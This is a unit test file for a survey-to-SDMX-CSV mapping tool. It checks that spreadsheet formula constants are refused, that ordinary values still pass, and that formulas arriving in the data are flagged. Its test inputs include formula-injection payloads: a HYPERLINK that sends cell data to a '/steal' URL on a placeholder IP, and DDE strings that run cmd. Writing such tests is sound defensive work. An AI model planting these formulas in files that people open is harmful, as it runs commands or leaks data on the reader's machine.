"""Mapping constants that a spreadsheet would run as a formula are refused (#14).

A mapping attribute ``=HYPERLINK(...)`` landed in every row of the SDMX-CSV, where a reviewer
who opened the file in Excel or LibreOffice ran it. SDMX-CSV is data, so the writers do not
rewrite values; the mapping, where such a constant is written once by hand, refuses it.
"""

from __future__ import annotations

import pytest
import yaml

from cgd_bridge.errors import MappingError
from cgd_bridge.mapping import load_mapping
from tests.unit.mapping.test_apply import SPEC, mapping


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://203.0.113.9/steal?d="&A1,"Kisumu report")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_constant_is_refused_with_its_place(tmp_path, value: str) -> None:
    path = tmp_path / "sauti_mapping.yaml"
    spec = {**SPEC, "attributes": {**SPEC["attributes"], "COMMENT_OBS": {"value": value}}}
    path.write_text(yaml.safe_dump(spec, allow_unicode=True))
    with pytest.raises(MappingError) as err:
        load_mapping(path)
    assert "attributes.COMMENT_OBS" in err.value.message
    assert "formula" in err.value.message


def test_a_formula_code_in_a_map_is_refused() -> None:
    sex = {"column": "sex", "map": {"=1+1": ["Female"], "M": ["Male"], "_T": ["Total"]}}
    with pytest.raises(ValueError, match="formula"):
        mapping(dimensions={**SPEC["dimensions"], "SEX": sex})


@pytest.mark.parametrize("value", ["-1", "-0.5", "Sauti ya Wananchi – Kisumu", "G", "a=b", "+"])
def test_ordinary_constants_still_pass(value: str) -> None:
    m = mapping(attributes={**SPEC["attributes"], "COMMENT_OBS": {"value": value}})
    assert m.attributes["COMMENT_OBS"].value == value


def test_formula_values_from_the_data_are_a_warning_with_their_rows(write) -> None:
    """Data is data: the value is kept as it is, and validation says where it is."""
    from cgd_bridge.ingest import open_table
    from cgd_bridge.mapping.apply import apply_mapping
    from cgd_bridge.mapping.conform import FORMULA_VALUE, formula_findings

    data = write(
        "kisumu.csv",
        "county,sex,age_group,disability_status,year,respondents,satisfied,note\n"
        "Kisumu,Female,18-24,With disability,2024,10,5,checked by the ward officer\n"
        'Kisumu,Male,18-24,With disability,2024,12,5,"=HYPERLINK(""http://203.0.113.9/"",""x"")"\n'
        "Kisumu,Total,18-24,With disability,2024,22,10,-3\n",
    )
    m = mapping(attributes={**SPEC["attributes"], "COMMENT_OBS": {"column": "note", "passthrough": True}})
    h = apply_mapping(open_table(data), m)
    assert '=HYPERLINK("http://203.0.113.9/","x")' in h.table.column("COMMENT_OBS").to_pylist()
    (finding,) = formula_findings(h, file="kisumu.csv")
    assert finding.code == FORMULA_VALUE
    assert finding.severity.value == "warning"
    assert finding.field == "COMMENT_OBS"
    assert finding.rows == (3,)
